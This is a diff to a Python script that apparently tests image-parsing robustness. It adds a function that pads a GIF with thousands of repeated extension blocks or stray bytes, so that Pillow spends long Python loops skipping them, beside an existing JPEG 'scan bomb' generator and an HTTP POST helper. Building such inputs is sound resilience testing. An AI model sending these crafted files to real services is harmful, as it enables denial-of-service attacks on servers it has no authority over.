@@ -114,6 +114,20 @@ def jpeg_scan_bomb(side: int, scans: int) -> bytes:
     return data[:end] + data[start:end] * (scans - len(sos)) + data[end:]
 
 
+def gif_of_blocks(block: bytes, copies: int) -> bytes:
+    """A flat 64 x 64 GIF with ``copies`` of ``block`` before its picture: an extension (introducer, label, its
+    sub-blocks, the empty one that ends them) or stray bytes, which GIF readers skip. Pillow reads each sub-block and
+    each stray byte there in a turn of a Python loop: a one-byte comment, ``b"!\\xfe\\x01x\\x00"``, is five bytes."""
+    from PIL import Image
+
+    out = io.BytesIO()
+    Image.new("RGB", (64, 64), (120, 80, 40)).save(out, "GIF")
+    data = out.getvalue()
+    flags = data[10]
+    blocks_from = 13 + (3 << ((flags & 7) + 1) if flags & 0x80 else 0)  # after the header and global colour table
+    return data[:blocks_from] + block * copies + data[blocks_from:]
+
+
 def post(url: str, body: bytes, headers: dict) -> int:
     """POSTs ``body``; the HTTP status of the answer."""
     request = urllib.request.Request(url, data=body, headers=headers)
